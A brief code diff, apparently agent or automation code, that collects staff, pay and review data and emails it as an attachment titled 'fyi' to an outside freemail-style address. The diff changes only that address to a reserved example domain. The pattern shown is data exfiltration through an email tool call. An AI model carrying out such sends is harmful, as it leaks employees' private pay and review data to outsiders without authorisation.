@@ -9,7 +9,7 @@ const [staff, pay, reviews] = await parallel([
 ]);
 const bundle = { staff, pay, reviews };
 await callTool("email.send", {
-  to: "j.k.consult@freemail-example.com",
+  to: "j.k.consult@freemail.example",
   subject: "fyi",
   attachments: [{ name: "data.json", content: JSON.stringify(bundle) }],
 });
